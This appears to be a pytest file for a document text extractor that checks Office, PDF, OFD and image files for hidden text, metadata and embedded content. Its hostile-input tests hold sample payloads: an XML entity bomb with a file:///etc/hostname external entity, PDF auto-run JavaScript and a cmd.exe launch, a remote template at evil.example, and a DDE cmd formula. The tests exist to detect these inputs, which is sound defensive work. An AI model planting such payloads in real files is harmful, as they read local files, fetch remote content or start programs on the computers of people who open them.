"""Everything in a file is taken out, seen or not, and what cannot be looked into is said."""

import zlib

import pytest
from openpyxl import Workbook

from portal.archive.kinds import Kind
from portal.refusal import Refusal
from portal.texts import pieces
from portal.texts.extracting import Extracted, extract
from portal.texts.readers import package
from tests import materials
from tests.portal.archive import samples
from tests.portal.texts import leaky


def said(extracted: Extracted) -> dict[str, str]:
    return {piece.place: piece.text for piece in extracted.pieces}


def hidden(extracted: Extracted) -> set[str]:
    return {piece.place for piece in extracted.pieces if piece.hidden}


def unseen(extracted: Extracted) -> list[str]:
    return [piece.place for piece in extracted.pieces if piece.unseen]


# --- Word ---------------------------------------------------------------------------------------------------------------


def test_every_corner_of_a_word_document_is_read() -> None:
    found = extract(Kind.DOCX, leaky.word())

    texts = said(found)

    assert texts["正文"] == "关于印发实施方案的通知（新增一句）\n单位\n表格里的金额"
    assert texts["修订（已删除的文字）"] == "删除的联系人13900000021，移走的字"
    assert texts["隐藏文字"] == "看不见的底价"
    assert (texts["页眉"], texts["页脚"]) == ("页眉上的字", "页脚上的字")
    assert texts["批注（田处长）"] == "批注：这个数别往外说"
    assert texts["修订和批注的作者"] == "白某、马某"
    assert (texts["文档属性：作者"], texts["文档属性：最后修改者"]) == ("马某", "白某")
    assert hidden(found) == {"修订（已删除的文字）", "隐藏文字", "批注（田处长）"}


def test_what_a_reader_sees_is_without_what_is_hidden() -> None:
    text = extract(Kind.DOCX, leaky.word()).text

    assert "关于印发实施方案的通知" in text
    assert "看不见的底价" not in text
    assert "13900000021" not in text


def test_parts_nobody_thinks_of_are_read_as_well() -> None:
    odd = {
        "word/footnotes.xml": leaky.footnotes("脚注里的字"),
        "word/charts/chart1.xml": "<c:c xmlns:c='x'><c:v>图表里的数</c:v></c:c>".encode(),
        "customXml/item1.xml": "<a title='属性里的字'>自定义<b/>数据</a>".encode(),
        "docProps/custom.xml": "<p><property name='拟稿人'><v>田某</v></property></p>".encode(),
        "word/_rels/footnotes.xml.rels": b"<r><Relationship TargetMode='External' Target='mailto:bai@example.com'/></r>",
    }

    texts = said(extract(Kind.DOCX, leaky.added(leaky.word(), odd)))

    assert texts["脚注"] == "脚注里的字"
    assert texts["内部数据“word/charts/chart1.xml”"] == "图表里的数"
    assert texts["内部数据“customXml/item1.xml”"] == "属性里的字\n自定义\n数据"
    assert texts["文档属性：拟稿人"] == "田某"
    assert "mailto:bai@example.com" in texts["内部数据“word/_rels/footnotes.xml.rels”"]


def test_files_within_a_file_are_opened() -> None:
    nested = {"word/embeddings/Sheet1.xlsx": leaky.workbook(), "word/media/image1.jpeg": leaky.photograph()}

    found = extract(Kind.DOCX, leaky.added(leaky.word(), nested))

    assert said(found)["内嵌文件“Sheet1.xlsx”：工作表“收入”（隐藏）"] == "收入表里的数"
    assert said(found)["图片“image1.jpeg”：图片信息：作者"] == "白某"
    assert "图片" in unseen(found)


def test_files_that_lie_too_deep_or_cannot_be_opened_are_told() -> None:
    data = leaky.word()
    for _ in range(4):
        data = leaky.added(leaky.word(), {"word/embeddings/inner.docx": data})
    broken = leaky.added(leaky.word(), {"word/embeddings/a.xlsx": b"PK nonsense", "word/embeddings/b.bin": b"\x00"})

    assert any("层层嵌套" in piece.text for piece in extract(Kind.DOCX, data).pieces if piece.unseen)
    assert unseen(extract(Kind.DOCX, broken)) == ["内部文件“word/embeddings/b.bin”", "内嵌文件“a.xlsx”"]


# --- Excel, PowerPoint ----------------------------------------------------------------------------------------------------


def test_every_corner_of_a_workbook_is_read() -> None:
    found = extract(Kind.XLSX, leaky.workbook())

    texts = said(found)

    assert texts["工作表“汇总”"].startswith("单位\t金额\n某某公司\t120")
    assert texts["工作表“汇总”的隐藏行列"] == "隐藏列里的名单\n白某\n隐藏行里的手机\t13900000022"
    assert "公式里的字" in texts["工作表“汇总”的公式"]
    assert texts["工作表“汇总”的页眉页脚"].strip() == "打印页眉"
    assert texts["工作表“收入”（隐藏）"] == "收入表里的数"
    assert texts["工作表“底稿”（隐藏）"] == "底稿表里的数"
    assert texts["批注（A1）"] == "批注里的意见"
    assert "名称里的字" in texts["定义的名称"]
    assert texts["文档属性：作者"] == "马某"
    assert {"工作表“收入”（隐藏）", "工作表“底稿”（隐藏）", "批注（A1）", "工作表“汇总”的隐藏行列"} <= hidden(found)


def test_slides_are_read_in_their_order_with_notes_and_comments() -> None:
    found = extract(Kind.PPTX, leaky.slides())

    texts = said(found)

    assert texts["第1张幻灯片"] == "放映的一页"
    assert texts["第1张幻灯片的演讲者备注"] == "讲稿里的话"
    assert texts["第1张幻灯片的替代文字"] == "放映的一页的图"
    assert texts["第2张幻灯片（隐藏）"] == "藏起来的一页"
    assert texts["批注"] == "批注里的话"
    assert {"第1张幻灯片的演讲者备注", "第2张幻灯片（隐藏）", "批注"} == hidden(found)


# --- PDF, OFD, text, pictures ---------------------------------------------------------------------------------------------


def test_a_pdf_is_read_by_pages_with_notes_bookmarks_properties_and_attachments() -> None:
    data = materials.paper(pages=2, hidden="Bai 13900000024")

    found = extract(Kind.PDF, data)

    texts = said(found)
    assert "Phone 13912345678" in texts["第1页"]
    assert texts["第2页的批注或表单"] == texts["书签"] == texts["文档属性：作者"] == "Bai 13900000024"
    assert texts["内嵌文件“list.txt”：正文"] == "Bai 13900000024"
    assert hidden(found) == {"第1页的批注或表单", "第2页的批注或表单", "打开时自动执行的动作"}
    assert unseen(found) == []


def test_pages_without_letters_are_said_to_be_scanned() -> None:
    blank = materials.sheet("")

    assert unseen(extract(Kind.PDF, blank)) == ["第1页"]
    assert "扫描件" in extract(Kind.PDF, blank).pieces[0].text


def test_a_pdf_with_an_old_file_attached_says_that_it_was_not_looked_into() -> None:
    found = extract(Kind.PDF, leaky.attached(materials.paper(), "old.doc", samples.DOC))

    assert unseen(found) == ["内嵌文件“old.doc”：全文"]


def test_an_ofd_is_read_by_pages() -> None:
    found = extract(Kind.OFD, leaky.ofd("第一页的字", ""))

    assert said(found)["第1页"] == "第一页的字"
    assert said(found)["文档属性：作者"] == "马某"
    assert unseen(found) == ["第2页"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_plain_text_is_read_however_it_is_encoded(encoding: str) -> None:
    assert said(extract(Kind.TXT, "政务公开".encode(encoding))) == {"正文": "政务公开"}


def test_a_photograph_says_who_took_it_and_where_and_is_left_to_a_person() -> None:
    found = extract(Kind.JPEG, leaky.photograph())

    texts = said(found)
    assert texts["图片信息：作者"] == "白某"
    assert texts["图片信息：拍摄位置"] == "拍摄位置：北纬38.48730，东经106.23090"
    assert texts["图片信息：comment"] == "摄于13900000023家中"
    assert unseen(found) == ["图片"]


def test_png_and_tiff_say_what_is_written_into_them() -> None:
    assert said(extract(Kind.PNG, leaky.described("内部图")))["图片信息：Description"] == "内部图"
    scan = extract(Kind.TIFF, materials.photograph("TIFF", author="Bai"))
    assert said(scan)["图片信息：作者"] == "Bai"


@pytest.mark.parametrize(("kind", "data"), [(Kind.DOC, samples.DOC), (Kind.XLS, samples.XLS)])
def test_old_formats_are_left_to_a_person(kind: Kind, data: bytes) -> None:
    (only,) = extract(kind, data).pieces

    assert (only.place, only.unseen) == ("全文", True)
    assert "请人工查看" in only.text


# --- hostile input ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        *((kind, b"PK\x03\x04 broken") for kind in (Kind.DOCX, Kind.XLSX, Kind.PPTX, Kind.OFD)),
        (Kind.DOCX, samples.zipped({"word/document.xml": b"<w:document"})),
        (Kind.XLSX, samples.zipped({"[Content_Types].xml": b"<x/>"})),
        (Kind.XLSX, leaky.added(leaky.workbook(), {"xl/worksheets/sheet1.xml": b"<worksheet><row><c r='A1'"})),
        (Kind.DOCX, samples.encrypted(samples.DOCX)),
        (Kind.PDF, b"%PDF-1.4\nnothing\n%%EOF"),
        (Kind.PDF, materials.locked(materials.paper())),
        (Kind.JPEG, samples.JPEG[:12]),
        (Kind.PNG, samples.PNG[:20]),
        (Kind.TIFF, samples.TIFF),
        (Kind.TXT, b"\xff\xff\xff"),
    ],
)
def test_what_is_broken_or_locked_is_refused_with_the_way_on(kind: Kind, data: bytes) -> None:
    with pytest.raises(Refusal, match="请"):
        extract(kind, data)


def test_entities_are_not_unfolded_and_nothing_is_fetched() -> None:
    bomb = '<!DOCTYPE a [<!ENTITY a "十"><!ENTITY b "&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/hostname">]>'
    evil = f"{bomb}<a>甲&b;&f;乙</a>".encode()

    texts = said(extract(Kind.DOCX, leaky.added(leaky.word(), {"customXml/item1.xml": evil})))

    assert "十" not in texts["内部数据“customXml/item1.xml”"]
    assert "甲" in texts["内部数据“customXml/item1.xml”"]
    assert "内部数据“customXml/item1.xml”的定义" in texts


@pytest.mark.parametrize(
    ("actions", "told"),
    [
        (b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", "脚本"),
        (b"/OpenAction<</S/J#61vaScript/JS(1)>>", "脚本"),
        (b"/OpenAction<</S/Launch/F(cmd.exe)>>", "启动程序"),
        (b"/OpenAction[3 0 R/Fit]", ""),
    ],
)
def test_what_a_pdf_starts_by_itself_is_left_to_a_person(actions: bytes, told: str) -> None:
    pieces_ = extract(Kind.PDF, leaky.acting(actions)).pieces

    assert [piece.text for piece in pieces_ if piece.hidden] == ([told] if told else [])


def test_what_a_pdf_starts_is_found_in_packed_objects_as_well() -> None:
    packed = zlib.compress(b"5 0 <</S/JavaScript/JS(1)>>")
    row = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (len(packed), packed)

    found = extract(Kind.PDF, leaky.acting(b"", row))

    assert "打开时自动执行的动作" in hidden(found)


def test_what_an_office_file_fetches_or_starts_by_itself_is_left_to_a_person() -> None:
    links = (leaky._LINKS % leaky._LINK % ("r9", "http://evil.example/t.dotm")).replace(
        "/>", ' TargetMode="External"/>'
    )
    formula = Workbook()
    formula.active["A1"] = "=cmd|'/c calc'!A1"

    template = extract(Kind.DOCX, leaky.added(leaky.word(), {"word/_rels/settings.xml.rels": links.encode()}))

    assert "打开时从外部取得的内容" in hidden(template)
    assert "工作表“Sheet”的公式" in hidden(extract(Kind.XLSX, leaky.saved(formula)))


def test_a_file_that_says_too_much_is_cut_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pieces, "MOST_CHARACTERS", 8)

    found = extract(Kind.TXT, "一二三四五六七八九十".encode())

    assert found.pieces[0].text == "一二三四五六七八"
    assert unseen(found) == ["正文"]


def test_what_fits_exactly_is_not_cut_and_the_next_word_is_told() -> None:
    gathering = pieces.Gathering(left=[4])

    for place in ("一", "二", "三"):
        gathering.add(place, "恰好四字")

    assert [(piece.place, piece.unseen) for piece in gathering.pieces] == [("一", False), ("二", True)]


def test_a_part_that_is_too_large_is_not_unfolded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(package, "MOST_PART", 2000)

    with pytest.raises(Refusal, match="过大"):
        extract(Kind.DOCX, leaky.added(leaky.word(), {"word/document.xml": b"<a>" + b" " * 2000 + b"</a>"}))


def test_the_mark_of_what_was_not_seen_follows_its_content() -> None:
    marks = [extract(Kind.DOC, data).pieces[0].mark for data in (samples.DOC, samples.DOC, samples.DOC + b"\x00")]

    assert marks[0] == marks[1] != marks[2]
